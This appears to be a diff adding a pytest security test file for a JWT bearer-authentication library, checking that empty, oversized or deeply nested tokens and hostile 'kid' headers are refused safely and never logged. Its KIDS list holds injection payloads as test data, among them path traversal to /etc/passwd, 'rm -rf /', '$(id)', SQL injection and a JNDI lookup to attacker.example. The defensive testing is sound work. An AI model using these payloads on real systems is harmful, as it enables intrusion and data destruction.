@@ -1,0 +1,244 @@
+"""Octets that are meant to hurt: nothing crashes, nothing is slow, nothing is asked, and nothing leaks into a log."""
+
+from __future__ import annotations
+
+import builtins
+import io
+import json
+import logging
+import os
+import sys
+import tracemalloc
+from types import FrameType
+from typing import Any
+
+import jwt
+import pytest
+from jwt.algorithms import RSAAlgorithm
+
+from authguard import AuthRequest, Credentials, Moment, Rejected, VerificationKey
+from authguard.wire import jws
+from tests.minting import NOW, b64url, claims, mint, raw_token, rsa_key
+from tests.security.door import Counted, Door, bearer, issuer
+from tests.security.peers import settled
+
+MEGABYTE = 1 << 20
+
+
+def counted() -> tuple[Door, Counted]:
+    """A door whose key source counts."""
+    source = Counted(VerificationKey("RS256", None, rsa_key().public_key()))
+    return Door(bearer(issuer(source))), source
+
+
+# --- nothing at all ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "field",
+    [b"", b" ", b"Bearer", b"Bearer ", b"bearer  ", b"Bearer\t", b"Bearer \t ", b" " * 8192, b"Bearer " + b" " * 8192],
+)
+async def test_no_token_reaches_no_key(field: bytes) -> None:
+    """sanic-jwt #143, Flask-HTTPAuth #62 (CVE-2026-34531): an empty token is a 401, and no key source is asked."""
+    door, source = counted()
+
+    answer = await door.answer(field)
+
+    assert (answer.status, answer.reason) == (401, "credentials.malformed")
+    assert any(name == b"www-authenticate" for name, _ in answer.headers)
+    assert source.asked == []
+
+
+@pytest.mark.parametrize("token", [b".", b"..", b"a.b.c", b"null", b"undefined", b"e30.e30.", b"e30.e30.e30", b"===="])
+async def test_what_is_no_token_reaches_no_key(token: bytes) -> None:
+    """The same for what is hardly more than nothing."""
+    door, source = counted()
+
+    answer = await door.bearer(token)
+
+    assert answer.status == 401
+    assert source.asked == []
+
+
+async def test_an_unknown_issuer_reaches_no_key() -> None:
+    """Whoever makes tokens up makes no work: the key source is asked for issuers of ours alone, and once."""
+    door, source = counted()
+
+    unknown = await door.bearer(mint(iss="https://attacker.example"))
+    known = await door.bearer(mint())
+
+    assert (unknown.reason, known.status) == ("token.issuer_unknown", 200)
+    assert source.asked == [(None, "RS256")]
+
+
+# --- too much ---------------------------------------------------------------------------------------------------------
+
+
+def _token_of(octets: int) -> str:
+    """A right token of this very length: whitespace round the JSON fills it up."""
+    for header in (b'{"alg":"RS256"}', b'{"alg":"RS256"} ', b'{"alg":"RS256"}  '):
+        left = octets - len(b64url(header)) - len(b64url(bytes(256))) - 2
+        if left % 4 != 1:  # no base64 has that length
+            payload = json.dumps(claims()).encode()
+            return raw_token(header, payload.ljust(left * 3 // 4), rsa_key())
+    raise AssertionError
+
+
+async def test_a_token_is_at_most_8_kib() -> None:
+    """A token of 8 KiB is taken, one octet more is not, and its length is told."""
+    door = Door()
+
+    full, longer = await door.bearer(_token_of(8192)), await door.bearer(_token_of(8193))
+
+    assert full.status == 200
+    assert (longer.status, longer.reason) == (401, "token.too_long")
+    assert longer.record.facts == {"octets": 8193, "limit": 8192}
+
+
+def _calls(field: bytes) -> int:
+    """How many calls of ours it takes to refuse this field."""
+    door, calls = Door(log=False), 0
+
+    def count(frame: FrameType, event: str, argument: object) -> None:
+        nonlocal calls
+        calls += event == "call" and "authguard" in frame.f_code.co_filename
+
+    settled(door.answer(field))
+    sys.setprofile(count)
+    try:
+        settled(door.answer(field))
+    finally:
+        sys.setprofile(None)
+    return calls
+
+
+@pytest.mark.parametrize("filling", [b".", b"a", b"=", b" ", b",", b'"', b"\\", b"\xff", b"a.", b"a=b,", b"[", b"{"])
+def test_a_megabyte_is_refused_before_any_work(filling: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
+    """CVE-2025-30204, CVE-2026-48525: a field of a megabyte costs what one of 17 KiB costs, and is not parsed."""
+
+    def unreached(*_: object) -> Any:
+        raise AssertionError
+
+    monkeypatch.setattr(jws, "parse", unreached)
+    fields = [(b"Bearer " + filling * size)[:size] for size in (17 * 1024, MEGABYTE)]
+
+    answers = [settled(Door().answer(field)) for field in fields]
+
+    assert {(answer.status, answer.reason) for answer in answers} == {(400, "header.too_long")}
+    assert _calls(fields[0]) == _calls(fields[1])
+
+
+def test_a_megabyte_of_dots_takes_no_memory() -> None:
+    """The scheme itself holds the line too, wherever its carrier found the token: no copy is made of it."""
+    request = AuthRequest({"type": "http", "headers": []}, path="/", moment=Moment(NOW, 60))
+    scheme, credentials = bearer(), Credentials("bearer", b"." * MEGABYTE)
+    settled(scheme.authenticate(request, credentials))
+
+    tracemalloc.start()
+    try:
+        outcome = settled(scheme.authenticate(request, credentials))
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+
+    assert isinstance(outcome, Rejected)
+    assert (outcome.reason.code, dict(outcome.facts)) == ("token.too_long", {"octets": MEGABYTE, "limit": 8192})
+    assert peak < 64 * 1024
+
+
+@pytest.mark.parametrize("opening", [b"[", b'{"a":', b'[{"a":'])
+async def test_deep_nesting_is_refused_without_recursion(opening: bytes) -> None:
+    """A payload of nothing but brackets meets its limit before it meets the parser."""
+    payload = b'{"x":' + opening * (5000 // len(opening))
+
+    answer = await Door().bearer(raw_token({"alg": "RS256"}, payload, rsa_key()))
+
+    assert (answer.reason, answer.record.facts["problem"]) == ("token.malformed", "nested too deeply")
+
+
+# --- what a token says ends up nowhere --------------------------------------------------------------------------------
+
+KIDS = [
+    "../../../../etc/passwd",
+    "/dev/null",
+    "file:///etc/passwd",
+    "https://attacker.example/key",
+    "' UNION SELECT 'secret' --",
+    "x; rm -rf /",
+    "$(id)",
+    "`id`",
+    "${jndi:ldap://attacker.example/a}",
+    "{0.__class__}%s%n%(message)s",
+    "k" * 4000,
+    "a\r\nINFO granted: GET /admin 200 alice",
+    "\x1b[2J\x1b[31mred",
+    "\u2028\u2029\x85\x00\x7f",
+    "\u202egnp.exe",
+]
+
+
+@pytest.fixture
+def files_opened(monkeypatch: pytest.MonkeyPatch) -> list[object]:
+    """What is opened while a test runs."""
+    opened: list[object] = []
+
+    def noting(real: Any) -> Any:
+        def opens(path: Any, *args: Any, **options: Any) -> Any:
+            opened.append(path)
+            return real(path, *args, **options)
+
+        return opens
+
+    monkeypatch.setattr(builtins, "open", noting(open))
+    monkeypatch.setattr(io, "open", noting(open))
+    monkeypatch.setattr(os, "open", noting(os.open))
+    return opened
+
+
+@pytest.mark.parametrize("kid", KIDS)
+async def test_a_kid_is_a_name_and_nothing_else(
+    kid: str, files_opened: list[object], caplog: pytest.LogCaptureFixture
+) -> None:
+    """RFC 8725 section 3.10: it is looked up by equality, opens no path, and is escaped and clipped in the log."""
+    source = Counted(VerificationKey("RS256", "2026-01", rsa_key().public_key()))
+    door = Door(bearer(issuer(source)))
+
+    answer = await door.bearer(mint(headers={"kid": kid}))
+
+    assert (answer.status, answer.reason) == (401, "key.unknown")
+    assert source.asked == [(kid, "RS256")]
+    assert files_opened == []
+    (told,) = (record for record in caplog.records if record.name == "authguard")
+    for text in (told.getMessage(), vars(told)["authguard.kid"]):
+        assert text.isprintable()
+        assert len(text) < 300
+
+
+async def test_no_part_of_a_token_is_told(caplog: pytest.LogCaptureFixture) -> None:
+    """Neither the log nor the client learns a token: it is named by eight digits of its hash."""
+    door = Door()
+    caplog.set_level(logging.DEBUG)
+    bad = [mint(exp=NOW - 100), mint(aud="x"), mint(key=rsa_key(which=1)), mint()[:-4], mint().replace(".", "..", 1)]
+
+    for token in [mint(), *bad]:
+        answer = await door.bearer(token)
+        told = caplog.text + repr([vars(record) for record in caplog.records]) + repr(answer)
+
+        for part in token.split("."):
+            assert not part or part not in told
+            assert not part or part[:32] not in told
+
+
+def test_jwt_decode_is_not_on_the_path(monkeypatch: pytest.MonkeyPatch) -> None:
+    """PyJWT's algorithm objects verify; its reading of tokens and of claims is not called."""
+
+    def unreached(*_: object, **__: object) -> Any:
+        raise AssertionError
+
+    token = mint()
+    for owner in (jwt.PyJWT, jwt.PyJWS):
+        for name in ("decode", "decode_complete"):
+            monkeypatch.setattr(owner, name, unreached)
+    monkeypatch.setattr(RSAAlgorithm, "prepare_key", unreached)
+
+    assert settled(Door().bearer(token)).status == 200
